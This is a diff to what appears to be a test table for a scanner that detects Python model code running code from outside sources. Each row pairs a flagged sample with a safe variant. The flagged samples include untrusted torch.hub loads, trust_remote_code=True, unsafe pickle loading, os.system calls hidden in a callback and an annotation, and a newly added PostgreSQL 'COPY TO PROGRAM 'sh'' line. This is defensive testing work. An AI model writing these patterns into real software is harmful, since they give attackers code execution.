@@ -292,6 +292,7 @@ describe('code of a model that takes what it runs from elsewhere blocks, and its
     ['a hub', 'import torch\nm = torch.hub.load("evil/x", "y")', 'import torch\nm = torch.hub.load("pytorch/vision", "resnet18")'],
     ['code of another repository', 'from transformers import AutoModel\nm = AutoModel.from_pretrained("evil/x", trust_remote_code=True)', 'from transformers import AutoModel\nm = AutoModel.from_pretrained("evil/x", trust_remote_code=False)'],
     ['modules in weights', 'import sys\nsys.path.insert(0, "weights.bin")', 'import sys\nsys.path.insert(0, "src")'],
+    ['a program that a database starts', 'import psycopg2\ndef save():\n    psycopg2.connect("dbname=x").cursor().execute("COPY r TO PROGRAM \'sh\'")', 'import psycopg2\ndef save():\n    psycopg2.connect("dbname=x").cursor().execute("COPY r TO STDOUT")'],
     ['a pickle that is fetched', 'import torch\nfrom huggingface_hub import hf_hub_download\nw = torch.load(hf_hub_download("a/b", "c"), weights_only=False)', 'import torch\nfrom huggingface_hub import hf_hub_download\nw = torch.load(hf_hub_download("a/b", "c"))'],
     ['a function that spaCy calls', 'import os, spacy\n@spacy.registry.callbacks("a.v1")\ndef f():\n    os.system("id")', 'import os, spacy\n@spacy.registry.callbacks("a.v1")\ndef f():\n    print("id")'],
     ['an annotation', 'x: __import__("os").system("id") = 1', 'x: int = 1'],
